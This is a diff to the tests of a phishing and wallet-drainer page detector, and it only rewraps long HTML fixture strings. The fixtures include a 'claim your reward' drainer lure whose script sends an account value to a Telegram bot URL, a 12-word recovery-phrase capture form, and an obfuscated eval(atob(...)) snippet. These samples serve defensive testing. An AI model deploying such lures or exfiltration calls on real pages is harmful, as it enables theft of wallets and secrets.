@@ -20,7 +20,8 @@ const kit = (host: string, id: string) => `<!doctype html><html><head><title>Cla
     fetch("https://api.telegram.org/bot123:ABC/sendMessage?chat_id=1&text=" + acct)
   }
 </script></head>
-<body><div class="hero"><h1>Connect wallet to claim your reward on ${host}</h1><button class="btn btn-primary" id="b-${id}">Connect Wallet</button></div></body></html>`;
+<body><div class="hero"><h1>Connect wallet to claim your reward on ${host}</h1><button class="btn btn-primary"\
+ id="b-${id}">Connect Wallet</button></div></body></html>`;
 
 t.test('drainer kit page: kit family, approvals, exfiltration, lure', async (t) => {
   const r = inspectPage(kit('claim-eth.xyz', 'f00d12'), meta('https://claim-eth.xyz/'));
@@ -50,7 +51,8 @@ t.test('the same kit on another domain has the same fingerprint; another page do
 t.test('seed-phrase form is critical', async (t) => {
   const inputs = Array.from({ length: 12 }, (_, i) => `<input type="text" name="word${i + 1}">`).join('');
   const r = inspectPage(
-    `<html><body><h2>Enter your 12-word recovery phrase to restore your wallet</h2><form>${inputs}<button>Restore</button></form></body></html>`,
+    `<html><body><h2>Enter your 12-word recovery phrase to restore your ` +
+      `wallet</h2><form>${inputs}<button>Restore</button></form></body></html>`,
     meta('https://x.example/'),
   );
   const f = r.findings.find((x) => x.kind === 'page.seed_phrase_form');
@@ -61,7 +63,8 @@ t.test('seed-phrase form is critical', async (t) => {
 
 t.test('obfuscation and cloned-page markers', async (t) => {
   const r = inspectPage(
-    `<!-- saved from url=(0022)https://opensea.io/ --><html><script>var _0x3f2a=['x'];eval(atob('YWxlcnQoMSk='))</script></html>`,
+    `<!-- saved from url=(0022)https://opensea.io/ --><html><script>var ` +
+      `_0x3f2a=['x'];eval(atob('YWxlcnQoMSk='))</script></html>`,
     meta('https://x.example/'),
   );
   const kinds = r.findings.map((f) => f.kind);
@@ -71,8 +74,10 @@ t.test('obfuscation and cloned-page markers', async (t) => {
 
 t.test('a benign page has no findings above info', async (t) => {
   const r = inspectPage(
-    `<!doctype html><html><head><title>Docs</title><script src="/static/app.js"></script><script>window.dataLayer = window.dataLayer || []</script></head>
-<body><nav class="top"><a href="/guide">Guide</a></nav><main><h1>Welcome to the documentation</h1><p>Read the guide to get started.</p>
+    `<!doctype html><html><head><title>Docs</title><script src="/static/app.js"></script><script>window.dataLayer = \
+window.dataLayer || []</script></head>
+<body><nav class="top"><a href="/guide">Guide</a></nav><main><h1>Welcome to the documentation</h1><p>Read the guide\
+ to get started.</p>
 <form action="/search"><input type="search" name="q"></form></main></body></html>`,
     meta('https://docs.example.org/'),
   );
@@ -101,7 +106,8 @@ t.test('hostile pages are inspected in linear time (no regex backtracking on unc
     t.equal(r.sandbox.fetched, true);
   }
   const ok = inspectPage(
-    '<html><head><meta http-equiv="refresh" content="0;url=https://y.example"><title> Hi </title></head><script src="//cdn.y.example/a.js"></script><script>go()</script></html>',
+    '<html><head><meta http-equiv="refresh" content="0;url=https://y.example"><title> Hi </title></head><script ' +
+      'src="//cdn.y.example/a.js"></script><script>go()</script></html>',
     meta('https://x.example/'),
   );
   t.match(ok.sandbox, {
